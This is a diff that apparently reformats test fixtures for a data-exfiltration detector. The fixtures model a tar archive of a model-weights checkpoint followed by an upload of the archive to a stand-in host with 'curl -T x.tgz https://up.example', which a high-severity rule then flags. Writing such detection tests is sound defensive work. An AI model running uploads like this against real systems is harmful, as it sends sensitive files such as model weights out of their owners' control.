@@ -30,10 +30,16 @@ ARCHIVE = hashlib.sha256(b"archive").hexdigest()
 SIZE = 50_000_000
 
 SHELL = ProcessInfo(pid=100, exe="/bin/bash", cmdline="bash", uid=1000, user="alice", ppid=1)
-TAR = ProcessInfo(pid=200, exe="/usr/bin/tar", cmdline="tar czf x.tgz", uid=1000, user="alice", ppid=100)
+TAR = ProcessInfo(
+    pid=200, exe="/usr/bin/tar", cmdline="tar czf x.tgz", uid=1000, user="alice", ppid=100
+)
 CURL = ProcessInfo(
-    pid=300, exe="/usr/bin/curl", cmdline="curl -T x.tgz https://up.example", uid=1000,
-    user="alice", ppid=100,
+    pid=300,
+    exe="/usr/bin/curl",
+    cmdline="curl -T x.tgz https://up.example",
+    uid=1000,
+    user="alice",
+    ppid=100,
 )
 OTHER = ProcessInfo(pid=900, exe="/usr/bin/rsync", cmdline="rsync", uid=1001, user="bob", ppid=1)
 
@@ -173,7 +179,12 @@ def finding(n: int = 0, key: str = "k", t: float = 0.0, **kw: Any) -> Finding:
                     "sha256": ARCHIVE,
                     "process": {"pid": 300, "exe": "/usr/bin/curl", "user": "alice", "uid": 1000},
                 },
-                {"uid": f"orig-{n}", "role": "lineage", "path": "/data/ckpt/模型.safetensors", "sha256": CKPT},
+                {
+                    "uid": f"orig-{n}",
+                    "role": "lineage",
+                    "path": "/data/ckpt/模型.safetensors",
+                    "sha256": CKPT,
+                },
             ],
             "flows": [
                 {
@@ -189,7 +200,9 @@ def finding(n: int = 0, key: str = "k", t: float = 0.0, **kw: Any) -> Finding:
                 }
             ],
             "lineage": [{"parent": CKPT, "child": ARCHIVE}],
-            "decisions": [{"subject_uid": f"flow-{n}", "rule_id": "ear.model_weights", "severity": "high"}],
+            "decisions": [
+                {"subject_uid": f"flow-{n}", "rule_id": "ear.model_weights", "severity": "high"}
+            ],
             "roots": [CKPT],
         },
     }
